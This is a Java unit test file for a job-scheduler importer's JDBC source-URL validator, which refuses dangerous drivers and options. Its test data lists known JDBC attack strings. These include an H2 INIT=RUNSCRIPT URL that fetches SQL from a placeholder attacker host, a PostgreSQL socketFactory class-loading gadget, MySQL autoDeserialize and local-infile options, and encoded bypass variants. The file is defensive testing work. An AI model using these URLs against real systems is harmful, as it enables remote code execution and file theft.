package com.jm.job.master.importer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SourceUrlTest {

    @Test
    void aMysqlUrlWithConnectionOptionsIsTakenAsGiven() {
        SourceUrl url =
                SourceUrl.parse("jdbc:mysql://db.example.com:3306/xxl_job?useSSL=true&serverTimezone=Asia/Shanghai");

        assertThat(url.jdbcUrl())
                .isEqualTo("jdbc:mysql://db.example.com:3306/xxl_job?useSSL=true&serverTimezone=Asia/Shanghai");
    }

    @Test
    void aMariadbUrlIsReadByConnectorJ() {
        assertThat(SourceUrl.parse("jdbc:mariadb://10.0.0.7/xxl_job").jdbcUrl())
                .isEqualTo("jdbc:mysql://10.0.0.7/xxl_job");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/evil.sql'",
                "jdbc:postgresql://db/xxl_job?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:sqlserver://db;databaseName=xxl_job",
                "jdbc:derby:memory:x;create=true",
                "jdbc:mysqlx://db/xxl_job",
                "jdbc:mysql+srv://db/xxl_job",
                "jdbc:mysql:loadbalance://db1,db2/xxl_job",
                "jdbc:mysql:replication://db1,db2/xxl_job",
                "mysql://db/xxl_job"
            })
    void aUrlOfAnotherDriverOrFormIsRefusedNamingTheAcceptedOnes(String url) {
        assertThatThrownBy(() -> SourceUrl.parse(url))
                .isInstanceOf(RefusedSourceException.class)
                .hasMessageContaining("refused source URL");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "autoDeserialize=true",
                "AUTODESERIALIZE=TRUE",
                "allowLoadLocalInfile=true",
                "allowLoadLocalInfileInPath=/",
                "allowUrlInLocalInfile=true",
                "socketFactory=com.example.Evil",
                "queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "statementInterceptors=com.example.Evil",
                "exceptionInterceptors=com.example.Evil",
                "connectionLifecycleInterceptors=com.example.Evil",
                "authenticationPlugins=com.example.Evil",
                "defaultAuthenticationPlugin=com.example.Evil",
                "propertiesTransform=com.example.Evil",
                "useConfigs=maxPerformance",
                "sessionVariables=sql_mode=x",
                "INIT=RUNSCRIPT",
                "init=RUNSCRIPT",
                "initSql=DROP",
                "password=secret",
                "clientInfoProvider=com.example.Evil"
            })
    void anOptionThatLoadsClassesReadsFilesOrRunsStatementsIsRefusedSayingWhat(String option) {
        String name = option.substring(0, option.indexOf('='));
        assertThatThrownBy(() -> SourceUrl.parse("jdbc:mysql://db/xxl_job?useSSL=false&" + option))
                .isInstanceOf(RefusedSourceException.class)
                .hasMessageContaining("option " + name + " ");
    }

    @Test
    void anOptionNotOnTheListIsRefusedListingTheAcceptedOnes() {
        assertThatThrownBy(() -> SourceUrl.parse("jdbc:mysql://db/xxl_job?cachePrepStmts=true"))
                .isInstanceOf(RefusedSourceException.class)
                .hasMessageContaining("option 'cachePrepStmts' is not one the import accepts")
                .hasMessageContaining("serverTimezone");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:mysql://db/xxl_job?%61utoDeserialize=true",
                "jdbc:mysql://(host=db,autoDeserialize=true)/xxl_job",
                "jdbc:mysql://address=(host=db)(autoDeserialize=true)/xxl_job",
                "jdbc:mysql://root:secret@db/xxl_job",
                "jdbc:mysql://db1,db2/xxl_job",
                "jdbc:mysql://db/",
                "jdbc:mysql://db/xxl_job?serverTimezone=UTC&serverTimezone=UTC",
                "jdbc:mysql://db/xxl_job?serverTimezone=UTC;autoDeserialize=true",
                "jdbc:mysql://db/xxl_job?serverTimezone=UTC#x"
            })
    void optionsHiddenInTheHostPartEncodedOrInAValueAreRefused(String url) {
        assertThatThrownBy(() -> SourceUrl.parse(url)).isInstanceOf(RefusedSourceException.class);
    }
}
